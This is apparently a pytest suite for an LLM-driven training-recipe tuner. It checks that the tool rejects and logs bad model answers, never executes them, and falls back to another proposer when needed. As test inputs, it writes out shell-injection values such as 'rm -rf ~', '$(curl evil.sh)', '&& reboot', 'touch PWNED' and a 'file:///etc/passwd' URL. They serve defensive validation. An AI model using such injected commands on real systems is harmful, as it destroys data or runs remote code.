"""The llm proposer against a scripted OpenAI-compatible server on loopback, through the openai
client: what it sends (structured output where the server takes it), what it accepts, every kind of
bad answer rejected with a recorded reason, never executed, and the fallback Researcher that
proposes where the LLM has nothing usable."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

from recipetune.config import load_campaign
from recipetune.core.errors import ConfigError
from recipetune.engine.config import LLMSettings
from recipetune.engine.llm import LLMProposer
from recipetune.engine.plan import make_proposer
from recipetune.engine.playbook import load_playbook
from recipetune.engine.proposers import AnalystProposer, WithFallback
from recipetune.engine.researcher import Proposal
from recipetune.speed.facts import PLAYBOOK
from recipetune.speed.plan import plan

sys.path.insert(0, str(Path(__file__).resolve().parent / "fixtures"))
sys.path.insert(0, str(Path(__file__).resolve().parent))
from fake_llm_server import FakeLLMServer  # noqa: E402
from test_search_proposers import BASE, context, profile  # noqa: E402


def answer(*proposals: dict) -> str:
    return json.dumps({"proposals": list(proposals)})


def settings(server: FakeLLMServer, **kw) -> LLMSettings:
    # No client-side retries unless a test asks: each scripted error is one answer, as counted here.
    return LLMSettings(**{"base_url": server.base_url, "model": "fake-model", "api_key": "sk-test", "retries": 0,
                          "transport_retries": 0, **kw})


def small_tree():
    ctx = context(profile(optim_s=0.02))
    # A small tree around the node: the context must carry its path, siblings and key nodes.
    good = ctx.tree.add(BASE.with_(micro_batch_size=4), ctx.tree.root, "passed", 0.7, score=1.6,
                        rationale="bigger micro-batch")
    ctx.tree.add(BASE.with_(num_threads=1), ctx.tree.root, "failed", 0.0, cause="timeout: killed")
    return good, ctx


def propose(server: FakeLLMServer, k: int = 3, retries: int = 0, **kw):
    node, ctx = small_tree()
    proposer = LLMProposer(settings(server, retries=retries, **kw))
    return proposer.propose(node, ctx, k), ctx


def test_valid_answer_becomes_proposals_and_the_context_is_compressed():
    reply = answer({"edits": {"optimizer_impl": "foreach"}, "rationale": "optimizer takes 25% of the step"},
                   {"edits": {"micro_batch_size": 8.0}, "rationale": "less accumulation"})
    with FakeLLMServer([reply]) as server:
        proposals, ctx = propose(server)
    assert [p.edits for p in proposals] == [{"optimizer_impl": "foreach"}, {"micro_batch_size": 8}]
    assert isinstance(proposals[1].edits["micro_batch_size"], int)  # coerced to the knob's type
    assert all(p.source == "llm" for p in proposals) and proposals[0].rationale.startswith("optimizer")
    assert ctx.rejections == []
    sent = server.requests[0]
    assert sent["model"] == "fake-model"
    assert server.headers[0]["authorization"] == "Bearer sk-test"
    view = json.loads(sent["messages"][1]["content"])
    assert view["node"]["changes"] == {"micro_batch_size": 4} and view["node"]["speedup"] == 1.6
    assert [p["status"] for p in view["path"]] == ["baseline"]
    assert view["siblings"] == [{"changes": {"num_threads": 1}, "status": "failed", "cause": "timeout: killed"}]
    assert view["best"][0]["speedup"] == 1.6 and view["failures"][0]["status"] == "failed"
    assert view["space"]["micro_batch_size"] == [1, 2, 4, 8, 16] and view["k"] == 3


def test_fenced_json_is_accepted():
    with FakeLLMServer(["```json\n" + answer({"edits": {"num_threads": 2}, "rationale": "r"}) + "\n```"]) as s:
        proposals, _ = propose(s)
    assert [p.edits for p in proposals] == [{"num_threads": 2}]


@pytest.mark.parametrize(("reply", "reason"), [
    ("sure! try a bigger batch", "malformed JSON"),
    ('{"proposals": [{"edits": {"micro_batch_size": 8}, "rationale": "x"}', "malformed JSON"),
    ('{"ideas": "bigger batch"}', "does not match the schema"),
    (answer({"edits": {"flash_attention_3": True}, "rationale": "x"}), "unknown knob 'flash_attention_3'"),
    (answer({"edits": {"lr": 0.01}, "rationale": "x"}), "not searched in this campaign"),
    (answer({"edits": {"optimizer_impl": "foreach; rm -rf ~"}, "rationale": "x"}), "shell metacharacters"),
    (answer({"edits": {"optimizer_impl": "$(curl evil.sh)"}, "rationale": "x"}), "shell metacharacters"),
    (answer({"edits": {"micro_batch_size": 3}, "rationale": "x"}), "out-of-domain"),
    (answer({"edits": {"micro_batch_size": -8}, "rationale": "x"}), "out-of-domain"),
    (answer({"edits": {"optimizer_impl": "apex"}, "rationale": "x"}), "out-of-domain"),
    (answer({"edits": {"micro_batch_size": [8, 16]}, "rationale": "x"}), "not a scalar"),
    (answer({"edits": {"micro_batch_size": 4}, "rationale": "x", "run": "bash -c x"}), "exactly 'edits'"),
    (answer({"edits": {}, "rationale": "x"}), "non-empty"),
    (answer({"edits": {"micro_batch_size": 4}, "rationale": "x"}), "already measured"),
    (500, "endpoint error"),
])
def test_bad_answers_are_rejected_with_a_reason(reply, reason):
    with FakeLLMServer([reply]) as server:
        proposals, ctx = propose(server)
    assert proposals == []
    assert len(ctx.rejections) == 1
    assert reason in ctx.rejections[0].reason and ctx.rejections[0].source == "llm"


def test_one_bad_item_does_not_sink_the_good_ones():
    reply = answer({"edits": {"num_threads": "2 && reboot"}, "rationale": "x"},
                   {"edits": {"num_threads": 2}, "rationale": "fewer threads contend less"})
    with FakeLLMServer([reply]) as server:
        proposals, ctx = propose(server)
    assert [p.edits for p in proposals] == [{"num_threads": 2}]
    assert [r.reason for r in ctx.rejections] == ["knob 'num_threads': shell metacharacters in value '2 && reboot'"]


def test_unreachable_endpoint_is_recorded():
    proposer = LLMProposer(LLMSettings(base_url="http://127.0.0.1:9/v1", timeout_s=2, transport_retries=0))
    ctx = context()
    assert proposer.propose(ctx.tree.root, ctx, 3) == []
    assert ctx.rejections[0].reason.startswith("endpoint error")


def test_llm_settings_come_from_the_environment(monkeypatch):
    monkeypatch.setenv("RECIPETUNE_LLM_BASE_URL", "http://127.0.0.1:1234/v1")
    monkeypatch.setenv("RECIPETUNE_LLM_MODEL", "qwen")
    p = LLMProposer(LLMSettings())
    assert (p.base_url, p.model) == ("http://127.0.0.1:1234/v1", "qwen")


def test_campaign_without_an_endpoint_is_bad_input(tmp_path, monkeypatch):
    monkeypatch.delenv("RECIPETUNE_LLM_BASE_URL", raising=False)
    f = tmp_path / "c.yaml"
    f.write_text("baseline: {model: nano}\nsearch:\n  proposer: llm\n  knobs: {num_threads: [1, 2]}\n")
    with pytest.raises(ConfigError, match="search.llm"):
        plan(load_campaign(f), tmp_path / "out")
    assert not (tmp_path / "out").exists()
    f.write_text("baseline: {model: nano}\nsearch:\n  proposer: llm\n  knobs: {num_threads: [1, 2]}\n"
                 "  llm: {base_url: 'file:///etc/passwd'}\n")
    with pytest.raises(ConfigError, match="http"):
        plan(load_campaign(f), tmp_path / "out")


# -- a Researcher that errs once is asked again ----------------------------------------------------

GOOD = answer({"edits": {"optimizer_impl": "foreach"}, "rationale": "the optimizer takes 25% of the step"})


@pytest.mark.parametrize("bad", ["sure! try a bigger batch", answer({"edits": {"num_threads": "2; reboot"},
                                                                     "rationale": "x"}), 500])
def test_one_bad_answer_is_fed_back_and_asked_again(bad):
    with FakeLLMServer([bad, GOOD]) as server:
        proposals, ctx = propose(server, retries=2)
    assert [p.edits for p in proposals] == [{"optimizer_impl": "foreach"}]
    assert len(server.requests) == 2 and len(ctx.rejections) == 1 and ctx.failed == {}
    second = server.requests[1]["messages"]
    if bad == 500:  # nothing to show the model: the same question again
        assert len(second) == 2
    else:  # the model sees its answer and why it could not be used
        assert second[2] == {"role": "assistant", "content": bad}
        assert "could not be used" in second[3]["content"] and ctx.rejections[0].reason in second[3]["content"]


def test_asking_again_is_bounded_and_a_failed_node_is_told_from_an_empty_one():
    with FakeLLMServer(["not json"]) as server:
        proposals, ctx = propose(server, retries=2)
    assert proposals == [] and len(server.requests) == 3 and len(ctx.rejections) == 3
    [why] = ctx.failed.values()
    assert "3 answers, none usable" in why and "malformed JSON" in why
    # An empty answer is the Researcher's own: not asked again, not a failure.
    with FakeLLMServer(['{"proposals": []}']) as server:
        proposals, ctx = propose(server, retries=2)
    assert proposals == [] and len(server.requests) == 1 and ctx.rejections == [] and ctx.failed == {}


def test_the_answer_can_depend_on_the_feedback():
    # A model that repeats a measured recipe until told so: the reason fed back is what moves it on.
    def model(body: dict) -> str:
        told = "already measured" in body["messages"][-1]["content"]
        return GOOD if told else answer({"edits": {"micro_batch_size": 4}, "rationale": "bigger micro-batch"})

    with FakeLLMServer([model]) as server:
        proposals, _ = propose(server, retries=1)
    assert [p.edits for p in proposals] == [{"optimizer_impl": "foreach"}] and len(server.requests) == 2


def test_a_campaign_whose_first_answer_is_bad_still_runs(tmp_path):
    # The failure: one malformed first answer marked the root exhausted, 0 runs.
    from test_search_campaign import Recorder, fake_guard, make_campaign

    from recipetune.speed.job import run

    answers = ["I think a faster impl would help", answer({"edits": {"speed": 2}, "rationale": "faster"}),
               answer({"edits": {"speed": 3}, "rationale": "faster still"}), '{"proposals": []}']
    with FakeLLMServer(answers) as server:
        camp = make_campaign(tmp_path, {"speed": [1, 2, 3, 4]}, proposer="llm", children=1,
                             budget={"trials": 3}, llm={"base_url": server.base_url, "fallback": "none"})
        reporter = Recorder()
        outcome = run(plan(camp, tmp_path / "campaign"), guard=fake_guard(), reporter=reporter)
    assert outcome.runs == 2 and outcome.decision == "APPROVED"
    rejected = (tmp_path / "campaign" / "rejected_proposals.jsonl").read_text()
    assert "malformed JSON" in rejected
    # It then had nothing new: exhausted by its own empty answers, not by failures.
    assert any(p.startswith("the tree is exhausted") and "failed" not in p for p in reporter.phases)


def test_an_edit_of_a_derived_knob_is_refused_with_the_reason(tmp_path):
    from test_relations import context_for, nanogpt_campaign

    ctx = context_for(nanogpt_campaign(tmp_path, derive=True))
    reply = answer({"edits": {"grad_accum": 1}, "rationale": "no accumulation"},
                   {"edits": {"batch_size": 32}, "rationale": "one micro-batch per step"})
    with FakeLLMServer([reply]) as server:
        proposer = LLMProposer(LLMSettings(base_url=server.base_url, retries=0))
        proposals = proposer.propose(ctx.tree.root, ctx, 3)
    assert [p.edits for p in proposals] == [{"batch_size": 32, "grad_accum": 1}]  # the derived value follows
    assert "derived from '32 // batch_size'" in ctx.rejections[0].reason
    view = json.loads(server.requests[0]["messages"][1]["content"])
    assert view["derived"] == {"grad_accum": "32 // batch_size"}
    assert view["meanings"] == {"batch_size": "micro_batch", "grad_accum": "grad_accum"}


# -- the openai client: transport retries, structured output, the extra ----------------------------


def test_transport_errors_are_retried_by_the_client_not_counted_as_answers():
    # A 503 then a good answer: the client's own retry (its backoff follows the server's retry-after-ms)
    # gets the answer; nothing is rejected and no re-ask of ours is spent.
    with FakeLLMServer([503, GOOD]) as server:
        proposals, ctx = propose(server, transport_retries=1)
    assert [p.edits for p in proposals] == [{"optimizer_impl": "foreach"}]
    assert len(server.requests) == 2 and ctx.rejections == [] and ctx.failed == {}


def test_structured_output_is_sent_with_a_schema_of_the_space():
    with FakeLLMServer([GOOD]) as server:
        node, ctx = small_tree()
        proposer = LLMProposer(settings(server))
        proposals = proposer.propose(node, ctx, 2)
    assert [p.edits for p in proposals] == [{"optimizer_impl": "foreach"}] and proposer.structured is True
    fmt = server.requests[0]["response_format"]
    assert fmt["type"] == "json_schema" and fmt["json_schema"]["name"] == "proposals"
    schema = fmt["json_schema"]["schema"]
    assert schema["required"] == ["proposals"] and schema["properties"]["proposals"]["maxItems"] == 2
    item = schema["properties"]["proposals"]["items"]
    assert item["required"] == ["edits", "rationale"] and item["additionalProperties"] is False
    edits = item["properties"]["edits"]
    assert edits["additionalProperties"] is False and set(edits["properties"]) == set(ctx.space.values)
    assert edits["properties"]["micro_batch_size"] == {"enum": [1, 2, 4, 8, 16]}


def test_a_server_refusing_response_format_is_asked_plainly_from_then_on():
    refusal = (400, "response_format json_schema is not supported by this server")

    def server_without_schemas(body: dict):
        return refusal if "response_format" in body else GOOD

    with FakeLLMServer([server_without_schemas]) as server:
        node, ctx = small_tree()
        proposer = LLMProposer(settings(server))
        first = proposer.propose(node, ctx, 3)
        assert [p.edits for p in first] == [{"optimizer_impl": "foreach"}] and ctx.rejections == []
        assert ["response_format" in r for r in server.requests] == [True, False]  # one plain retry
        assert proposer.structured is False
        proposer.propose(ctx.tree.root, ctx, 3)  # remembered: the next question goes plain at once
    assert ["response_format" in r for r in server.requests] == [True, False, False]
    # The plain request demands the same JSON in the prompt, and its answer is checked the same way.
    assert '{"proposals": [{"edits"' in server.requests[1]["messages"][0]["content"]


def test_another_bad_request_is_an_endpoint_error_not_a_refusal_of_schemas():
    with FakeLLMServer([(400, "model 'fake-model' does not exist")]) as server:
        proposals, ctx = propose(server, retries=1)
    assert proposals == [] and len(server.requests) == 2  # our re-ask; the client does not retry a 400
    assert all("response_format" in r for r in server.requests)  # not taken for a refusal of schemas
    why = ctx.rejections[0].reason
    assert why.startswith("endpoint error: HTTP 400") and "does not exist" in why


def test_structured_output_can_be_turned_off():
    with FakeLLMServer([GOOD]) as server:
        proposals, _ = propose(server, structured=False)
    assert proposals and "response_format" not in server.requests[0]


def test_without_the_openai_client_the_llm_proposer_is_bad_input_naming_the_extra(tmp_path, monkeypatch):
    from typer.testing import CliRunner

    from recipetune.cli import app

    monkeypatch.setitem(sys.modules, "openai", None)  # import openai raises ImportError, as when not installed
    f = tmp_path / "c.yaml"
    f.write_text("baseline: {model: nano}\nsearch:\n  proposer: llm\n  knobs: {num_threads: [1, 2]}\n"
                 "  llm: {base_url: 'http://127.0.0.1:1/v1'}\n")
    with pytest.raises(ConfigError, match=r"search\.proposer: llm needs the openai client") as e:
        plan(load_campaign(f), tmp_path / "out")
    assert "pip install 'recipetune[llm]'" in str(e.value)
    res = CliRunner().invoke(app, ["tune", str(f), "--out", str(tmp_path / "out")])
    text = " ".join(res.output.split())
    assert res.exit_code == 2 and "pip install 'recipetune[llm]'" in text and "Traceback" not in res.output
    assert not (tmp_path / "out").exists()


# -- the composed Researcher: a fallback where the LLM has nothing usable ---------------------------


class Nothing:
    name = "analyst"

    def propose(self, node, context, k) -> list[Proposal]:
        return []


def test_unusable_answers_fall_back_to_the_analyst_recorded_per_proposal():
    with FakeLLMServer(["not json"]) as server:
        node, ctx = small_tree()
        proposer = make_proposer("llm", builtin=PLAYBOOK, llm=settings(server, retries=1))
        assert isinstance(proposer, WithFallback) and proposer.name == "llm"
        proposals = proposer.propose(node, ctx, 3)
    assert len(server.requests) == 2 and proposals
    assert all(p.source.startswith("analyst (llm fallback: 2 answers, none usable; last: malformed JSON")
               for p in proposals)
    # The rationales are the analyst's own, as it gives them alone.
    _, alone_ctx = small_tree()
    analyst = AnalystProposer(load_playbook(builtin=PLAYBOOK))
    assert [(p.edits, p.rationale) for p in proposals] == \
        [(p.edits, p.rationale) for p in analyst.propose(alone_ctx.tree.nodes[node.id], alone_ctx, 3)]
    # What the LLM said stays on record; the node did not fail, the fallback delivered.
    assert [r.source for r in ctx.rejections] == ["llm", "llm"] and ctx.failed == {}


def test_the_random_fallback_is_recorded_too():
    with FakeLLMServer([500]) as server:
        node, ctx = small_tree()
        llm = settings(server, fallback="random")
        proposals = make_proposer("llm", builtin=PLAYBOOK, llm=llm).propose(node, ctx, 2)
    assert len(proposals) == 2
    assert all(p.source.startswith("random (llm fallback: 1 answer, none usable; last: endpoint error: HTTP 500")
               and p.rationale.startswith("uniform draw") for p in proposals)


def test_an_empty_answer_is_nothing_new_not_unusable():
    # {"proposals": []} is the LLM's honest "nothing new": not asked again, not a failure, nothing
    # rejected; the fallback is asked too, and its proposals say the LLM had nothing new.
    with FakeLLMServer(['{"proposals": []}']) as server:
        node, ctx = small_tree()
        proposals = make_proposer("llm", builtin=PLAYBOOK, llm=settings(server, retries=2)).propose(node, ctx, 3)
    assert len(server.requests) == 1 and ctx.rejections == [] and ctx.failed == {}
    assert proposals and all(p.source == "analyst (llm: nothing new)" for p in proposals)


def test_a_node_is_exhausted_only_when_both_have_nothing():
    for reply, failed in (('{"proposals": []}', False), ("not json", True)):
        with FakeLLMServer([reply]) as server:
            node, ctx = small_tree()
            assert WithFallback(LLMProposer(settings(server)), Nothing()).propose(node, ctx, 3) == []
        if failed:  # the loop is told why: the LLM failed and the fallback had nothing either
            assert "none usable" in ctx.failed[node.id] and "analyst fallback has nothing new" in ctx.failed[node.id]
        else:  # an honest "nothing new" from both: exhausted, not failed
            assert ctx.failed == {}


# -- campaigns -------------------------------------------------------------------------------------


def fake_campaign(tmp_path: Path, server: FakeLLMServer, trials: int, **llm):
    from test_search_campaign import Recorder, fake_guard, make_campaign

    from recipetune.speed.job import run

    camp = make_campaign(tmp_path, {"speed": [1, 2, 3, 4], "impl": ["a", "b", "c"]}, proposer="llm", children=1,
                         budget={"trials": trials},
                         llm={"base_url": server.base_url, "transport_retries": 0, **llm})
    p = plan(camp, tmp_path / "campaign")
    reporter = Recorder()
    return run(p, guard=fake_guard(), reporter=reporter), p.store, reporter


def test_a_campaign_whose_first_ten_answers_are_unusable_spends_its_whole_budget(tmp_path):
    from test_search_campaign import finished

    pwned = tmp_path / "PWNED"
    evil = f"b; touch {pwned}"
    unusable = [
        "Sure! A faster impl should help.",
        answer({"edits": {"impl": evil}, "rationale": "x"}),
        answer({"edits": {"gpu_turbo": True}, "rationale": "x"}),
        500,
        '{"ideas": "go faster"}',
        answer({"edits": {"speed": 9}, "rationale": "x"}),
        answer({"edits": {"impl": f"$(touch {pwned})"}, "rationale": "x"}),
        answer({"edits": {"speed": 2}, "rationale": "x", "run": f"touch {pwned}"}),
        503,
        answer({"edits": {"mode": "crash"}, "rationale": "x"}),
    ]
    # Then a model that answers: every recipe of the space (the measured ones are refused, item by item).
    every = answer(*({"edits": {"speed": s, "impl": i}, "rationale": f"speed {s}, impl {i}"}
                     for s in (4, 3, 2, 1) for i in ("b", "a", "c")))
    with FakeLLMServer([*unusable, every]) as server:
        outcome, store, reporter = fake_campaign(tmp_path, server, trials=6)  # 3 answers a round (retries: 2)
    recs = finished(store)
    assert outcome.runs == 6 and len(recs) == 6  # the whole budget
    assert len(server.requests) >= 11
    sources = [r.attrs["proposer"] for r in recs]
    # Rounds 1-3 used 9 unusable answers, the 4th the 10th and then a good one.
    assert all(s.startswith("analyst (llm fallback: 3 answers, none usable") for s in sources[:3]), sources
    assert sources[3:] == ["llm"] * 3
    reasons = [json.loads(x)["reason"] for x in (store.folder / "rejected_proposals.jsonl").read_text().splitlines()]
    for why in ("malformed JSON", "shell metacharacters", "unknown knob 'gpu_turbo'", "endpoint error: HTTP 500",
                "does not match the schema", "out-of-domain", "exactly 'edits'", "endpoint error: HTTP 503",
                "not searched in this campaign"):
        assert any(why in r for r in reasons), why
    # Nothing it said was executed or reached a recipe.
    assert not pwned.exists()
    recipes = [r.attrs["recipe"] for r in store.records() if "recipe" in r.attrs]
    assert recipes and not any("touch" in json.dumps(r) for r in recipes)
    assert not any("exhausted" in phase for phase in reporter.phases)


def test_a_campaign_with_an_endpoint_that_has_nothing_new_runs_on_the_fallback(tmp_path):
    from test_search_campaign import finished

    with FakeLLMServer(['{"proposals": []}']) as server:
        outcome, store, _ = fake_campaign(tmp_path, server, trials=4)
    recs = finished(store)
    assert outcome.runs == 4 and [r.attrs["proposer"] for r in recs] == ["analyst (llm: nothing new)"] * 4
    assert all(len(r["messages"]) == 2 for r in server.requests)  # never re-asked: nothing was wrong
    rejected = store.folder / "rejected_proposals.jsonl"
    assert not rejected.exists() or rejected.read_text() == ""


def test_fallback_none_keeps_the_exhaustion_and_says_why(tmp_path):
    with FakeLLMServer(["not json"]) as server:
        outcome, store, reporter = fake_campaign(tmp_path, server, trials=4, fallback="none", retries=1)
    assert outcome.runs == 0 and len(server.requests) == 2
    [failed] = [p for p in reporter.phases if p.startswith("llm proposer failed at")]
    assert "2 answers, none usable; last: malformed JSON" in failed
    why = "1 of its nodes only because no answer of the Researcher was usable"
    assert any(p.startswith("the tree is exhausted") and why in p for p in reporter.phases)
    # An endpoint with nothing new and no fallback: exhausted by its own empty answer, not failed.
    with FakeLLMServer(['{"proposals": []}']) as server:
        outcome, _, reporter = fake_campaign(tmp_path / "empty", server, trials=4, fallback="none")
    assert outcome.runs == 0
    assert any(p.startswith("the tree is exhausted") and "failed" not in p for p in reporter.phases)


def test_the_fallback_analyst_reads_the_jobs_playbook_and_the_campaigns(tmp_path):
    extra = tmp_path / "extra.yaml"
    extra.write_text("rules:\n  - {name: mine, when: 'True', action: {knob: lr, set: 0.01}, why: mine}\n")
    quality = "recipetune.finetune:playbook.yaml"  # the quality job's, as finetune/job.py passes it
    proposer = make_proposer("llm", playbook=extra, builtin=quality,
                             llm=LLMSettings(base_url="http://127.0.0.1:1/v1"))
    assert isinstance(proposer, WithFallback) and isinstance(proposer.fallback, AnalystProposer)
    assert [r.name for r in proposer.fallback.rules] == ["mine"] + [r.name for r in load_playbook(builtin=quality)]
    bare = LLMSettings(base_url="http://127.0.0.1:1/v1", fallback="none")
    assert isinstance(make_proposer("llm", builtin=PLAYBOOK, llm=bare), LLMProposer)
